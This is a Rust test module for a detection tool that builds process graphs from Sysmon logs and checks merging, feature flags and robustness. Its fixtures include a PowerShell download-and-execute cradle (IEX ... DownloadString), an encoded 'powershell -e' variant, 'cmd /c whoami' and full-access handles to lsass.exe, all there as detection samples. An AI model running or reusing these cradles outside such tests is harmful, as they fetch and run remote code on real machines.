//! What must hold of any panes, and what the merge alone can decide.

use logster_schema::{Endpoint, Field, Fields, Kind, Lane, Position, RawTopic};
use proptest::prelude::*;

use super::*;
use crate::features::{Tensors, tensors};
use crate::graph::occlusion::{Occlusion, core};

pub(crate) const START: TimeMs = 1_800_000_000_000;
const SHELL: &str = r"C:\Windows\System32\cmd.exe";
const TOOL: &str = r"C:\Users\ann\AppData\Local\Temp\tool.exe";

pub(crate) fn observation(at: i64, offset: i64, kind: Kind, fields: &[(Field, &str)]) -> Observation {
    let mut builder = Fields::builder();
    fields.iter().for_each(|(field, text)| {
        builder.push(*field, text);
    });
    Observation {
        endpoint: Endpoint::new("default", "h"),
        platform: Platform::Windows,
        time_ms: START + at,
        arrival_ms: START + at,
        lane: Lane::Live,
        position: Position { topic: RawTopic::Sysmon, partition: 0, offset },
        activity: logster_schema::Activity { kind, fields: builder.finish() },
        rules: None,
    }
}

fn guid(n: u8) -> String {
    format_guid(0x1000 + u128::from(n))
}

/// `observations` sealed as panes that end at `cuts` (ms from the start).
fn panes(observations: &[Observation], cuts: &[i64]) -> Vec<PaneGraph> {
    let mut rest = observations;
    let mut panes = Vec::new();
    for cut in cuts.iter().chain([&i64::MAX]) {
        let end = rest.partition_point(|o| o.time_ms - START < *cut);
        panes.push(PaneGraph::seal(Platform::Windows, &rest[..end]));
        rest = &rest[end..];
    }
    panes
}

/// The window of these panes.
pub(crate) fn window(observations: &[Observation], cuts: &[i64]) -> WindowGraph {
    let panes = panes(observations, cuts);
    WindowGraph::merge(Platform::Windows, START, START + 180_000, &panes.iter().collect::<Vec<_>>())
}

fn created(at: i64, child: u8, parent: u8, image: &str) -> Observation {
    let (child_guid, parent_guid, pid) = (guid(child), guid(parent), (100 + u32::from(child)).to_string());
    observation(
        at,
        at,
        Kind::Sysmon(1),
        &[
            (Field::ProcessGuid, &child_guid),
            (Field::ProcessId, &pid),
            (Field::Image, image),
            (Field::CommandLine, "x"),
            (Field::Company, "c"),
            (Field::ParentProcessGuid, &parent_guid),
            (Field::ParentImage, SHELL),
        ],
    )
}

fn opened(at: i64, source: u8, target: u8) -> Observation {
    observation(
        at,
        at,
        Kind::Sysmon(10),
        &[
            (Field::SourceProcessGuid, &guid(source)),
            (Field::SourceImage, SHELL),
            (Field::TargetProcessGuid, &guid(target)),
            (Field::TargetImage, TOOL),
            (Field::GrantedAccess, "0x1FFFFF"),
        ],
    )
}

fn wrote(at: i64, by: u8, path: &str) -> Observation {
    observation(
        at,
        at,
        Kind::Sysmon(11),
        &[(Field::ProcessGuid, &guid(by)), (Field::Image, SHELL), (Field::TargetFilename, path)],
    )
}

fn has(graph: &WindowGraph, process: u8, token: &str) -> bool {
    let id = features::TokenId::new(token, true).id();
    let node = graph.nodes().find(|n| n.guid() == Some(guid(process))).expect("the process is in the window");
    node.tokens().any(|t| t.id() == id)
}

#[test]
fn guids() {
    let text = "{9c8ba0f1-0001-0002-0003-00000000abcd}";
    assert_eq!(parse_guid(text).map(format_guid).as_deref(), Some(text));
    assert_eq!(parse_guid(&text.to_uppercase()), parse_guid(text));
    for bad in ["", "-", "{}", "{00000000-0000-0000-0000-000000000000}", "9c8ba0f1", &format!("{text}0"), "é"] {
        assert_eq!(parse_guid(bad), None, "{bad}");
    }
}

#[test]
fn a_parents_handle_to_its_child_means_nothing() {
    let log = [created(10_000, 2, 1, TOOL), opened(31_000, 1, 2), opened(32_000, 3, 2)];
    let whole = window(&log, &[30_000]);
    assert!(!has(&whole, 1, "f:acc_full"), "the creation is in the earlier pane");
    assert!(has(&whole, 3, "f:acc_full"));
    assert!(has(&window(&log[1..], &[30_000]), 1, "f:acc_full"), "without the creation, nobody knows");
}

#[test]
fn a_file_that_is_written_and_then_run_marks_both() {
    let log = [wrote(5_000, 1, TOOL), created(40_000, 2, 1, TOOL)];
    for cuts in [&[][..], &[30_000]] {
        let graph = window(&log, cuts);
        assert!(has(&graph, 1, "f:wrote_run_file") && has(&graph, 2, "f:ran_written_file"));
    }
    let late = window(&[created(5_000, 2, 1, TOOL), wrote(40_000, 1, TOOL)], &[]);
    assert!(!has(&late, 2, "f:ran_written_file"), "it ran before it was written");
}

#[test]
fn a_script_block_joins_its_process_by_pid() {
    let script = |at, pid| {
        observation(
            at,
            at,
            Kind::Sysmon(4104),
            &[
                (Field::ProcessId, pid),
                (Field::ScriptBlockId, "b"),
                (Field::ScriptBlockText, "IEX (New-Object Net.WebClient).DownloadString('http://x')"),
            ],
        )
    };
    for cuts in [&[][..], &[30_000]] {
        let graph = window(&[created(1_000, 2, 1, SHELL), script(40_000, "102")], cuts);
        let processes = graph.nodes().filter(|n| n.kind() == NodeKind::Process).count();
        assert_eq!((processes, graph.node_counts()["script"]), (2, 1));
        let at = graph.nodes().position(|n| n.guid() == Some(guid(2))).expect("it is there");
        let flag = features::TokenId::new("f:ps_download", true);
        assert!(graph.tree_tokens()[at].contains(&flag), "what it ran counts as its own");
    }
    // No process of that pid is known: an instance of its own.
    let graph = window(&[created(1_000, 2, 1, SHELL), script(40_000, "999")], &[]);
    assert_eq!(graph.nodes().filter(|n| n.kind() == NodeKind::Process).count(), 3);
    // The GUID comes later: the same process.
    let mut later = opened(50_000, 7, 8);
    let mut fields = Fields::builder();
    later.activity.fields.iter().for_each(|(f, t)| {
        fields.push(f, t);
    });
    fields.push(Field::SourceProcessId, "999");
    later.activity.fields = fields.finish();
    for cuts in [&[][..], &[45_000]] {
        let graph = window(&[script(40_000, "999"), later.clone()], cuts);
        assert_eq!(graph.nodes().filter(|n| n.kind() == NodeKind::Process).count(), 2);
    }
}

#[test]
fn suspicion_stops_at_hubs() {
    let service = r"C:\Windows\System32\services.exe";
    let mut below_hub = created(2_000, 3, 2, TOOL);
    let mut fields = Fields::builder();
    below_hub.activity.fields.iter().for_each(|(f, t)| {
        fields.push(f, if f == Field::ParentImage { service } else { t });
    });
    below_hub.activity.fields = fields.finish();
    let graph = window(&[created(1_000, 2, 1, service), below_hub, created(3_000, 4, 3, SHELL)], &[]);
    let tree = graph.tree_tokens();
    let flag = features::TokenId::new("f:img_user", true);
    let shows = |n| tree[graph.nodes().position(|node| node.guid() == Some(guid(n))).expect("known")].contains(&flag);
    assert!(shows(3) && shows(4), "own, and a parent's");
    assert!(!shows(2) && !shows(1), "not past services.exe");
}

#[test]
fn a_flood_of_files_is_bounded() {
    let log: Vec<_> = (0..MAX_NODES as i64 + 500)
        .map(|n| {
            let path = format!(r"C:\x\{n}.txt");
            observation(
                n % 20_000,
                n,
                Kind::Sysmon(11),
                &[(Field::ProcessGuid, &guid(1)), (Field::Image, SHELL), (Field::TargetFilename, &path)],
            )
        })
        .collect();
    let graph = window(&log, &[]);
    assert!(graph.num_nodes() as usize <= MAX_NODES + NodeKind::ALL.len());
    assert_eq!(graph.edges().iter().map(|e| e.count).sum::<u32>() as usize, log.len(), "every event is counted");
}

#[test]
fn sentences_are_distinct_and_bounded() {
    let long = format!(r"C:\Users\ann\{}\a.dll", "d".repeat(3_000));
    let log = [wrote(1_000, 1, &long), wrote(2_000, 1, &long), created(3_000, 2, 1, TOOL)];
    let graph = window(&log, &[]);
    let edges = named(&graph);
    assert_eq!(edges.len(), graph.num_edges() as usize);
    assert!(edges.iter().all(|e| e.sentence.chars().count() < 400), "{edges:?}");
    assert!(edges.iter().any(|e| e.sentence.starts_with("cmd.exe wrote ") && e.sentence.ends_with(" 2 times")));
    assert_eq!(graph.key_edges(&[(1, 0.5), (1, 0.4), (0, 0.3)], 2).len(), 2, "the same edge once");
}

#[test]
fn sentences_join_writing_and_running() {
    let dll = r"C:\Users\ann\a.dll";
    let loaded = |at: i64, process: u8| {
        let fields = [(Field::ProcessGuid, &*guid(process)), (Field::Image, TOOL), (Field::ImageLoaded, dll)];
        observation(at, at, Kind::Sysmon(7), &fields)
    };
    let graph = window(&[wrote(1_000, 1, dll), wrote(9_000, 1, dll), loaded(13_500, 2)], &[5_000]);
    let sentences: Vec<String> = named(&graph).into_iter().map(|e| e.sentence).collect();
    let tool = TOOL.rsplit('\\').next().unwrap();
    let want = [
        format!(r"cmd.exe wrote {dll} 2 times, then {tool} loaded it, 12 s later"),
        format!(r"{tool} loaded {dll}, written 12 s before by cmd.exe"),
    ];
    assert!(want.iter().all(|w| sentences.contains(w)), "{sentences:?}");
}

/// Every edge in words.
fn named(graph: &WindowGraph) -> Vec<logster_schema::KeyEdge> {
    graph.key_edges(&(0..graph.num_edges()).map(|at| (at, 0.0)).collect::<Vec<_>>(), usize::MAX)
}

#[test]
fn without_an_edge_a_window_is_as_if_it_had_not_been_logged() {
    // 1 starts 2, which writes a file and starts 3; 1 writes another.
    let log = [
        wrote(500, 1, r"C:\Users\ann\other.txt"),
        created(1_000, 2, 1, TOOL),
        wrote(40_000, 2, r"C:\Users\ann\a.dll"),
        created(50_000, 3, 2, SHELL),
    ];
    let panes: Vec<PaneGraph> =
        [&log[..2], &log[2..3], &log[3..]].map(|part| PaneGraph::seal(Platform::Windows, part)).into();
    let panes: Vec<&PaneGraph> = panes.iter().collect();
    let merge = |panes: &[&PaneGraph]| WindowGraph::merge(Platform::Windows, START, START + 180_000, panes);
    let graph = merge(&panes);
    let occlusion = Occlusion::new(&graph, &panes);
    let edge = |relation: Relation, label: &str| {
        let is = |e: &&Edge| e.relation == relation && graph.node(e.dst).label().ends_with(label);
        let found = graph.edges().iter().find(is).unwrap_or_else(|| panic!("no {relation:?} {label}"));
        graph.edges().iter().position(|e| e == found).unwrap() as u32
    };
    let same = |got: &WindowGraph, want: &WindowGraph| {
        let (mut got, mut want) = (tensors(&[got]), tensors(&[want]));
        // Events are counted by pane; times are those of the whole.
        got.graph_feat.clear();
        want.graph_feat.clear();
        assert_eq!((got.node_type, got.tok_id, got.tok_node), (want.node_type, want.tok_id, want.tok_node));
        assert_eq!((got.tree_id, got.edge_src, got.edge_dst), (want.tree_id, want.edge_src, want.edge_dst));
    };
    same(&occlusion.without(&[]).graph, &graph);

    // The start of 2 takes all that 2 did.
    let rest = occlusion.without(&[edge(Relation::Spawned, TOOL.rsplit('\\').next().unwrap())]);
    let only = PaneGraph::seal(Platform::Windows, &log[..1]);
    same(&rest.graph, &merge(&[&only]));
    assert_eq!(rest.nodes.len(), rest.graph.num_nodes() as usize);
    assert!(rest.edges.iter().filter(|there| **there).count() < graph.edges().len());

    // The file goes with its only edge, and what its writing showed of 2 with it.
    let rest = occlusion.without(&[edge(Relation::Wrote, "a.dll")]);
    same(&rest.graph, &merge(&[panes[0], panes[2]]));
}

/// Events of processes with GUIDs, each always under the same image.
fn event() -> impl Strategy<Value = (i64, u8, u8, u8)> {
    (0i64..180_000, 0u8..5, 0u8..5, 0u8..6)
}

fn image(n: u8) -> &'static str {
    [SHELL, TOOL, r"C:\Windows\explorer.exe", r"C:\Windows\System32\rundll32.exe", r"C:\Windows\System32\lsass.exe"]
        [n as usize % 5]
}

fn log_of(events: &[(i64, u8, u8, u8)]) -> Vec<Observation> {
    let mut log: Vec<_> = events
        .iter()
        .enumerate()
        .map(|(offset, &(at, a, b, what))| {
            let (ga, gb) = (guid(a), guid(b));
            let actor = [(Field::ProcessGuid, &*ga), (Field::Image, image(a))];
            let both = [
                (Field::SourceProcessGuid, &*ga),
                (Field::SourceImage, image(a)),
                (Field::TargetProcessGuid, &*gb),
                (Field::TargetImage, image(b)),
            ];
            let (kind, fields) = match what {
                0 => (
                    1,
                    [
                        &actor[..],
                        &[
                            (Field::CommandLine, "cmd /c whoami"),
                            (Field::ParentProcessGuid, &gb),
                            (Field::ParentImage, image(b)),
                        ],
                    ]
                    .concat(),
                ),
                1 => (10, [&both[..], &[(Field::GrantedAccess, "0x1410"), (Field::CallTrace, "UNKNOWN(1)")]].concat()),
                2 => (8, both.to_vec()),
                3 => (11, [&actor[..], &[(Field::TargetFilename, image(b))]].concat()),
                4 => (7, [&actor[..], &[(Field::ImageLoaded, image(b)), (Field::Signed, "false")]].concat()),
                _ => (
                    3,
                    [
                        &actor[..],
                        &[
                            (Field::Initiated, "true"),
                            (Field::DestinationIp, "8.8.8.8"),
                            (Field::DestinationPort, "443"),
                        ],
                    ]
                    .concat(),
                ),
            };
            observation(at, offset as i64, Kind::Sysmon(kind), &fields)
        })
        .collect();
    log.sort_by_key(Observation::order);
    log
}

/// The tensors but for the number of active panes, which a cut changes by its nature.
fn comparable(graph: &WindowGraph) -> Tensors {
    let mut t = tensors(&[graph]);
    t.graph_feat.pop();
    t
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(128))]

    /// A window is the same wherever its panes were cut.
    #[test]
    fn pane_boundaries_leave_no_trace(
        events in proptest::collection::vec(event(), 0..40),
        mut cuts in proptest::collection::vec(0i64..180_000, 0..6),
    ) {
        cuts.sort_unstable();
        let log = log_of(&events);
        let (whole, cut) = (window(&log, &[]), window(&log, &cuts));
        prop_assert_eq!(whole.edges(), cut.edges());
        prop_assert_eq!(comparable(&whole), comparable(&cut));
        prop_assert_eq!(whole.findings(), cut.findings());
        prop_assert_eq!(whole.peers(), cut.peers());
        prop_assert_eq!(named(&whole), named(&cut));
    }

    /// A part of a window has the chosen nodes and all edges between them, in the order of the whole.
    #[test]
    fn a_part_keeps_the_order_of_the_whole(
        events in proptest::collection::vec(event(), 0..40),
        mut cuts in proptest::collection::vec(0i64..180_000, 0..6),
        chosen in any::<u64>(),
    ) {
        cuts.sort_unstable();
        let panes = panes(&log_of(&events), &cuts);
        let panes: Vec<&PaneGraph> = panes.iter().collect();
        let merge = |panes: &[&PaneGraph]| WindowGraph::merge(Platform::Windows, START, START + 180_000, panes);
        let part = |keep: &[bool]| {
            let panes = core(&merge(&panes), &panes, keep);
            merge(&panes.iter().collect::<Vec<_>>())
        };
        let whole = merge(&panes);
        let all = vec![true; whole.num_nodes() as usize];
        prop_assert_eq!(comparable(&part(&all)), comparable(&whole));
        let keep: Vec<bool> = (0..whole.num_nodes()).map(|at| chosen >> (at % 64) & 1 == 1).collect();
        let part = part(&keep);
        let kept: Vec<u32> = (0..whole.num_nodes()).filter(|at| keep[*at as usize]).collect();
        prop_assert_eq!(part.num_nodes() as usize, kept.len());
        for (at, of) in kept.iter().enumerate() {
            let (mine, of) = (part.node(at as u32), whole.node(*of));
            prop_assert_eq!((mine.kind(), mine.label(), mine.guid()), (of.kind(), of.label(), of.guid()));
        }
        let between = whole.edges().iter().filter(|e| keep[e.src as usize] && keep[e.dst as usize]).copied();
        let renamed = part.edges().iter().map(|e| Edge { src: kept[e.src as usize], dst: kept[e.dst as usize], ..*e });
        prop_assert_eq!(renamed.collect::<Vec<_>>(), between.collect::<Vec<_>>());
    }

    /// The union of graphs is their tensors one after the other.
    #[test]
    fn a_batch_is_its_graphs(
        a in proptest::collection::vec(event(), 0..20),
        b in proptest::collection::vec(event(), 0..20),
    ) {
        let (a, b) = (window(&log_of(&a), &[]), window(&log_of(&b), &[]));
        let (ta, tb, both) = (tensors(&[&a]), tensors(&[&b]), tensors(&[&a, &b]));
        prop_assert_eq!(both.num_graphs(), 2);
        prop_assert_eq!(&both.node_feat, &[ta.node_feat, tb.node_feat].concat());
        prop_assert_eq!(&both.edge_feat, &[ta.edge_feat, tb.edge_feat].concat());
        prop_assert_eq!(&both.tree_id, &[ta.tree_id, tb.tree_id].concat());
        prop_assert!(both.edge_dst.is_sorted());
        prop_assert!(both.edge_src.iter().chain(&both.edge_dst).all(|&n| n < both.num_nodes() as i64));
        prop_assert!(both.node_feat.iter().chain(&both.edge_feat).all(|x| x.is_finite()));
    }

    /// Whatever the fields hold, a pane is sealed, merged and described.
    #[test]
    fn nothing_makes_it_panic(
        events in proptest::collection::vec(
            (
                any::<i32>(),
                prop_oneof![(1u16..30).boxed(), Just(255).boxed(), Just(4104).boxed(), any::<u16>().boxed()],
                proptest::collection::vec((0..Field::ALL.len(), text()), 0..12),
            ),
            0..12,
        ),
    ) {
        let mut log: Vec<_> = events
            .iter()
            .enumerate()
            .map(|(offset, (at, kind, fields))| {
                let fields: Vec<_> = fields.iter().map(|(f, t)| (Field::ALL[*f], &**t)).collect();
                observation(i64::from(*at), offset as i64, Kind::Sysmon(*kind), &fields)
            })
            .collect();
        log.sort_by_key(Observation::order);
        let graph = window(&log, &[0]);
        let t = tensors(&[&graph]);
        prop_assert_eq!(t.num_edges(), graph.num_edges() as usize);
        let _ = (graph.findings(), named(&graph), graph.peers());
    }
}

fn text() -> impl Strategy<Value = String> {
    prop_oneof![
        "\\PC{0,30}",
        "[-/\\\\:.\"' >|$%a-eA-E0-9]{0,40}",
        proptest::sample::select(vec![
            "{9c8ba0f1-0001-0002-0003-00000000abcd}",
            r"C:\Windows\System32\lsass.exe",
            r"\\srv\c$\a.exe",
            "powershell -e SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
            "0x1fffff",
            "true",
            "4711",
            "::1",
            r"HKLM\System\CurrentControlSet\Services\x\ImagePath",
        ])
        .prop_map(str::to_owned),
    ]
}
